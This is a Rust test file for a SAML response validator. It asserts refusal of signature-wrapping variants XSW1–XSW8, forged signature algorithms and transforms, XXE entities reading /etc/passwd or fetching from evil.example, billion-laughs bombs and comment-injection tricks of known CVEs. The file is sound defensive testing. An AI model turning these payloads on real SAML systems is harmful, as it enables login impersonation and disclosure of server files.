//! Who takes what is signed, or a part of it, and makes another message of it.

use proptest::prelude::*;

use super::super::signature::forging::forge;
use super::*;

const COMMENTS: &str = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
const EXCLUSIVE: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";

/// The assertion that an attacker would like to be believed.
fn evil() -> String {
    replaced(&replaced(&assertion(), "ID=\"a1\"", "ID=\"evil\""), "alice@", "admin@")
}

/// The signature of a message, and the message without it.
fn parted(signed: &str) -> (String, String) {
    let (before, rest) = signed.split_once("<ds:Signature ").unwrap();
    let (own, behind) = rest.split_once("</ds:Signature>").unwrap();
    (format!("<ds:Signature {own}</ds:Signature>"), format!("{before}{behind}"))
}

/// Puts something behind the issuer, which is where signatures stand.
fn behind_issuer(message: &str, what: &str) -> String {
    let (before, behind) = message.split_once("</saml:Issuer>").unwrap();
    format!("{before}</saml:Issuer>{what}{behind}")
}

fn inside(message: &str, end: &str, what: &str) -> String {
    let at = message.rfind(end).unwrap();
    format!("{}{what}{}", &message[..at], &message[at..])
}

/// The classic variants of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012, as SAML Raider numbers them).
#[test]
fn signature_wrapping_is_refused() {
    let whole = signed(&response(&assertion()));
    let (response_signature, bare_response) = parted(&whole);
    let evil_response = replaced(&response(&evil()), "ID=\"r1\"", "ID=\"evil-r\"");
    let (own, bare) = parted(&signed(&assertion()));
    let original = signed(&assertion());
    let object = |what: &str| format!("<ds:Object>{what}</ds:Object>");
    let extensions = |what: &str| format!("<samlp:Extensions>{what}</samlp:Extensions>");
    let cases = [
        (
            "XSW1",
            behind_issuer(&evil_response, &inside(&response_signature, "</ds:Signature>", &bare_response)),
            "saml/signature",
        ),
        (
            "XSW1 in an object",
            behind_issuer(&evil_response, &inside(&response_signature, "</ds:Signature>", &object(&bare_response))),
            "saml/signature",
        ),
        ("XSW2", behind_issuer(&evil_response, &format!("{bare_response}{response_signature}")), "saml/signature"),
        (
            "XSW2 with the same ID",
            behind_issuer(&response(&evil()), &format!("{bare_response}{response_signature}")),
            "saml/malformed",
        ),
        ("XSW3", response(&format!("{}{original}", evil())), "saml/malformed"),
        ("XSW3 behind", response(&format!("{original}{}", evil())), "saml/malformed"),
        ("XSW4", response(&inside(&evil(), "</saml:Assertion>", &original)), "saml/signature"),
        ("XSW5", response(&format!("{}{bare}", behind_issuer(&evil(), &own))), "saml/malformed"),
        (
            "XSW5 in extensions",
            response(&format!("{}{}", extensions(&bare), behind_issuer(&evil(), &own))),
            "saml/signature",
        ),
        ("XSW6", response(&behind_issuer(&evil(), &inside(&own, "</ds:Signature>", &bare))), "saml/signature"),
        (
            "XSW7",
            response(&format!("{}{original}", extensions(&replaced(&evil(), "ID=\"evil\"", "ID=\"a1\"")))),
            "saml/malformed",
        ),
        ("XSW7, the other way round", response(&format!("{}{}", extensions(&original), evil())), "saml/signature"),
        ("XSW8", response(&behind_issuer(&evil(), &inside(&own, "</ds:Signature>", &object(&bare)))), "saml/signature"),
        ("two signatures", response(&behind_issuer(&original, &own)), "saml/signature"),
        ("an evil assertion in a signed response", replaced(&whole, "alice@", "admin@"), "saml/signature"),
    ];
    for (name, text, slug) in cases {
        assert_eq!(Judge::new().slug(&text), slug, "{name}: {text}");
    }
    // These hold, but for what stands where it does not belong.
    let filled = behind_issuer(&bare, &inside(&own, "</ds:Signature>", &object("<x/>")));
    assert_eq!(Judge::new().slug(&response(&filled)), "saml/signature", "more in a signature");
    let beside = response(&format!("{}{original}", extensions(&own)));
    assert_eq!(Judge::new().slug(&beside), "saml/signature", "a signature where none belongs");
    // What is around is not read: here is nothing to refuse.
    let around = response(&format!("{}{original}", extensions(&evil())));
    assert_eq!(Judge::new().judge(&around).unwrap().claims["sub"], "alice@example.org");
}

#[test]
fn what_is_not_signed_by_the_provider_is_refused() {
    let good = signed(&assertion());
    let by = |name: &str| super::super::signature::sign(&evil(), &key(name)).unwrap();
    let (own, _) = parted(&good);
    let cases = [
        ("unsigned", response(&evil())),
        ("stripped", response(&parted(&good).1)),
        ("an attacker's certificate in KeyInfo", response(&by("other"))),
        ("our own key", response(&by("sp"))),
        ("signed by another in a response that is not", data("unsigned.xml").replace("alice@", "admin@")),
        ("another assertion's signature", response(&behind_issuer(&evil(), &own))),
        ("SHA-1", data("sha1.xml")),
        ("changed", response(&replaced(&good, "alice@", "admin@"))),
        ("a signed response around an assertion that somebody else signed", signed(&response(&by("other")))),
        (
            "an empty value",
            response(&replaced(&good, "<ds:SignatureValue>", "<ds:SignatureValue/><ds:KeyInfo/><ds:SignatureValue>")),
        ),
    ];
    for (name, text) in cases {
        assert_eq!(Judge::new().slug(&text), "saml/signature", "{name}");
    }
}

/// All of these are signed by the provider's own key: it is the shape that is refused.
#[test]
fn a_signature_of_another_shape_is_refused() {
    const XPATH: &str = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>1</ds:XPath></ds:Transform>";
    let (sha256, sha1) = ("2001/04/xmldsig-more#rsa-sha256", "2000/09/xmldsig#rsa-sha1");
    let transforms = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"></ds:Transform>\
                      <ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"></ds:Transform>";
    let around = format!("<ds:Transforms>{transforms}</ds:Transforms>");
    let more = format!("{transforms}{XPATH}");
    let enveloped = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
    let uri = "URI=\"#a1\"";
    let cases = [
        ("HMAC", sha256, "2001/04/xmldsig-more#hmac-sha256"),
        ("RSA with SHA-1", sha256, sha1),
        ("RSA-PSS", sha256, "2007/05/xmldsig-more#sha256-rsa-MGF1"),
        ("DSA", sha256, "2009/xmldsig11#dsa-sha256"),
        ("a method of ECDSA for a key of RSA", "#rsa-sha256", "#ecdsa-sha256"),
        ("a digest by SHA-1", "2001/04/xmlenc#sha256", "2000/09/xmldsig#sha1"),
        ("canonicalisation with comments", EXCLUSIVE, COMMENTS),
        ("inclusive canonicalisation", EXCLUSIVE, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ("no transforms", around.as_str(), ""),
        ("empty transforms", transforms, ""),
        ("a transform `none`", enveloped, "none"),
        ("XSLT", enveloped, "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        ("XPath", transforms, &more),
        ("a reference to all", uri, "URI=\"\""),
        ("no reference", uri, ""),
        ("a reference to nothing", uri, "URI=\"#\""),
        ("a reference to another element", uri, "URI=\"#r1\""),
        ("a reference by XPointer", uri, "URI=\"#xpointer(id('a1'))\""),
        ("a reference to somewhere else", uri, "URI=\"https://evil.example/#a1\""),
    ];
    for (name, what, by) in cases {
        let text = response(&forge(&assertion(), &key("idp"), |info| replaced(info, what, by)));
        assert_eq!(Judge::new().slug(&text), "saml/signature", "{name}");
    }
    let unaltered = response(&forge(&assertion(), &key("idp"), str::to_owned));
    assert_eq!(Judge::new().slug(&unaltered), "");
    let twice = |info: &str| {
        let reference = &info[info.find("<ds:Reference ").unwrap()..info.find("</ds:SignedInfo>").unwrap()];
        info.replace(reference, &reference.repeat(2))
    };
    assert_eq!(Judge::new().slug(&response(&forge(&assertion(), &key("idp"), twice))), "saml/signature");
}

/// CVE-2025-29775: a digest that two readers read differently.
#[test]
fn a_comment_in_the_digest_changes_nothing() {
    let good = response(&signed(&assertion()));
    let twice = replaced(&good, "<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->");
    assert_eq!(Judge::new().slug(&twice), "", "a comment is no part of what is signed");
    let evil = replaced(&replaced(&good, "alice@", "admin@"), "<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->");
    assert_eq!(Judge::new().slug(&evil), "saml/signature");
}

#[test]
fn what_is_written_to_be_read_in_two_ways_is_refused_or_read_as_signed() {
    let good = response(&signed(&replaced(&assertion(), "alice@example.org", "alice@example.org.evil.example")));
    // CVE-2017-11427 and its like: the signature holds, and the name is whole.
    let cut = replaced(&good, "alice@example.org.evil", "alice@example.org<!-- -->.evil");
    assert_eq!(Judge::new().judge(&cut).unwrap().claims["sub"], "alice@example.org.evil.example");
    let good = response(&signed(&assertion()));
    let laughs = "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
    for (name, text) in [
        (
            "XXE",
            format!(
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
                replaced(&good, "alice@example.org", "&x;")
            ),
        ),
        ("XXE of a parameter", format!("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]>{good}")),
        ("billion laughs", format!("{laughs}{}", replaced(&good, "alice@example.org", "&c;"))),
        ("a document type without content", format!("<!DOCTYPE r>{good}")),
        ("an entity that nobody declared", replaced(&good, "alice@example.org", "&x;")),
        ("a processing instruction", replaced(&good, "alice@", "<?x?>alice@")),
        ("an ID twice", response(&replaced(&signed(&assertion()), "<saml:Subject>", "<saml:Subject Id=\"a1\">"))),
        ("no XML", "***".to_owned()),
        ("UTF-16", "\u{feff}<\0a\0/\0>\0".to_owned()),
        ("deep", format!("{}{}", "<a>".repeat(5000), "</a>".repeat(5000))),
        ("large", format!("{good}{}", " ".repeat(300_000))),
    ] {
        assert_eq!(Judge::new().slug(&text), "saml/malformed", "{name}");
    }
    assert_eq!(Brought::in_form("SAMLResponse=%3Cx%3E").unwrap_err().fault.slug, "saml/malformed", "no base64");
    // Profiles §4.1.2: never by redirect, and never as a question.
    let question = Brought::in_form(&form(good.as_bytes()).replace("SAMLResponse", "SAMLRequest")).unwrap();
    let problem = Judge::new().expected().judge_response(&question, Answers::Nothing, at(NOW)).unwrap_err();
    assert_eq!(problem.fault.slug, "saml/malformed");
    let by_redirect = Brought::in_query(&data("logout-answer-redirect.txt")).unwrap();
    let problem = Judge::new().expected().judge_response(&by_redirect, Answers::Nothing, at(NOW)).unwrap_err();
    assert_eq!(problem.cause.as_deref(), Some("no answer by form"));
}

#[test]
fn what_is_encrypted_in_a_weak_way_or_for_others_is_refused() {
    assert_eq!(Judge::new().slug(&data("encrypted-cbc.xml")), "saml/encrypted");
    let good = data("encrypted-256-assertion-signed.xml");
    let others = Judge { keys: vec![key("other"), key("p384")], ..Judge::new() };
    assert_eq!(others.slug(&good), "saml/encrypted");
    assert_eq!(Judge { keys: Vec::new(), ..Judge::new() }.slug(&good), "saml/encrypted");
    let weak = replaced(&good, "xmlenc#rsa-oaep-mgf1p", "xmlenc#rsa-1_5");
    assert_eq!(Judge::new().slug(&weak), "saml/encrypted");
    let at = good.rfind("CipherValue>").unwrap() - 100;
    let changed = format!("{}{}{}", &good[..at], if &good[at..=at] == "A" { "B" } else { "A" }, &good[at + 1..]);
    assert_eq!(Judge::new().slug(&changed), "saml/encrypted", "the cipher sees a change");
    let labelled = "mgf1p\"><xenc:OAEPparams xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\">AA==</xenc:OAEPparams></ns0:EncryptionMethod>";
    let labelled = replaced(&good, "mgf1p\"/>", labelled);
    assert_eq!(Judge::new().slug(&labelled), "saml/encrypted", "a label is not known");
    let around = data("encrypted-256-response-signed.xml");
    let (before, rest) = around.split_once("<ns2:Signature ").unwrap();
    let stripped = format!("{before}{}", rest.split_once("</ns2:Signature>").unwrap().1);
    assert_eq!(Judge::new().slug(&stripped), "saml/signature", "anybody can encrypt for us");
}

#[test]
fn an_assertion_that_is_forgotten_is_too_late() {
    let later = Judge { now: NOW + 3600, ..Judge::new() };
    assert_eq!(later.slug(&data("both-signed.xml")), "saml/expired", "when it is forgotten it is too late");
}

/// Every byte of it, changed in one bit: nothing is left to chance.
#[test]
fn no_change_of_a_byte_makes_other_claims() {
    for name in ["assertion-signed", "response-signed"] {
        let (judge, text) = (Judge::new(), data(&format!("{name}.xml")));
        let good = judge.judge(&text).unwrap();
        let bytes = text.as_bytes();
        for at in 0..bytes.len() {
            let mut changed = bytes.to_vec();
            changed[at] ^= 1;
            if let Ok(accepted) = judge.judge_bytes(&changed) {
                assert_eq!(accepted, good, "byte {at} of {name}");
            }
        }
    }
}

proptest! {
    #[test]
    fn no_other_byte_makes_other_claims(at in 0usize..7000, by in any::<u8>()) {
        let (judge, mut bytes) = (Judge::new(), data("both-signed.xml").into_bytes());
        let good = judge.judge(str::from_utf8(&bytes).unwrap()).unwrap();
        let at = at % bytes.len();
        bytes[at] = by;
        if let Ok(accepted) = judge.judge_bytes(&bytes) {
            prop_assert_eq!(accepted, good);
        }
    }

    #[test]
    fn no_input_panics(text in ".{0,200}", bytes in proptest::collection::vec(any::<u8>(), 0..200), cut in 0usize..7000) {
        let judge = Judge::new();
        let _ = judge.judge(&text);
        let _ = judge.expected().judge_grant(&text, super::at(NOW));
        let _ = judge.judge_bytes(&bytes);
        let whole = data("both-signed.xml");
        let shortened = [&whole.as_bytes()[..cut.min(whole.len())], &bytes[..]].concat();
        let _ = judge.judge_bytes(&shortened);
        let _ = Provider::read(&bytes, None);
        let _ = Certificate::from_der(&bytes);
    }
}
